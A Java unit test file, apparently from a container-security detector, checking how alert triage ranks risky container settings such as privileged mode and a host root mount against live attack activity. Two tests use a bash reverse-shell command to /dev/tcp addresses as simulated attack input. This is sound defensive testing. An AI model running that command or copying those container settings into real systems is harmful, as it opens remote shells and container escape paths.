package io.hivesec.detectors.escape;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertQuery;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Nature;
import io.hivesec.alert.Triage;
import io.hivesec.event.ContainerStarted;
import io.hivesec.event.Context;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** What an analyst sees first: somebody's doing, and settings behind it, unless somebody uses them. */
final class PostureTriageTest {
    private static final String RISKY = """
            {"HostConfig": {"Privileged": true, "PidMode": "host", "NetworkMode": "host", "Binds": ["/:/host"]}}
            """;

    private final Hive hive =
            Hive.builder().plugins(PostureTriageTest.class.getClassLoader()).build();
    private final Scene scene = Scene.in("web-1");

    @AfterEach
    void close() {
        hive.close();
    }

    @Test
    void triage_riskySettingsAlone_comeBehindADoubtfulAttack() {
        starts(scene);
        Scene other = Scene.in("web-2");
        other.starts("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1");
        judge(other);
        List<Alert> postures = alerts(Nature.POSTURE);
        assertThat(postures).hasSizeGreaterThan(2).allSatisfy(alert -> {
            assertThat(alert.triage().band()).isEqualTo(Triage.Band.LOW);
            assertThat(alert.triage().signals())
                    .as("many settings of one container are no more likely to be used than one")
                    .extracting(Triage.Signal::name)
                    .doesNotContain("correlated-alerts");
        });
        double worst = postures.stream()
                .mapToDouble(alert -> alert.triage().probability())
                .max()
                .orElseThrow();
        assertThat(alerts(Nature.ACTIVITY)).isNotEmpty().allSatisfy(alert -> {
            assertThat(alert.type()).isNotEqualTo(AlertType.ESCAPE_RISK);
            assertThat(alert.triage().probability()).isGreaterThan(worst);
        });
    }

    @Test
    void triage_attackInTheRiskyContainer_raisesTheSettingsAndNotTheOtherWayRound() {
        starts(scene);
        double before = alerts(Nature.POSTURE).get(0).triage().probability();
        scene.starts("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        judge(scene);
        assertThat(alerts(Nature.POSTURE)).allSatisfy(alert -> {
            assertThat(alert.triage().probability()).isGreaterThan(before);
            assertThat(alert.triage().band()).isNotEqualTo(Triage.Band.LOW);
        });
        assertThat(alerts(Nature.ACTIVITY)).allSatisfy(alert -> {
            assertThat(alert.triage().impact().stakes())
                    .as("what the settings are to an attack: what is at stake")
                    .contains("privileged container");
            assertThat(alert.triage().signals())
                    .noneMatch(signal -> signal.detail().contains("escape-risk."));
        });
    }

    private void starts(Scene in) {
        hive.inspect(
                new ContainerStarted(Context.of(Scene.START, in.container(), io.hivesec.event.Process.UNKNOWN), RISKY));
    }

    private void judge(Scene scene) {
        scene.events().forEach(hive::inspect);
        hive.flush();
    }

    private List<Alert> alerts(Nature nature) {
        return hive.alerts().list(AlertQuery.ALL, 100).stream()
                .filter(alert -> alert.rule().nature() == nature)
                .toList();
    }
}
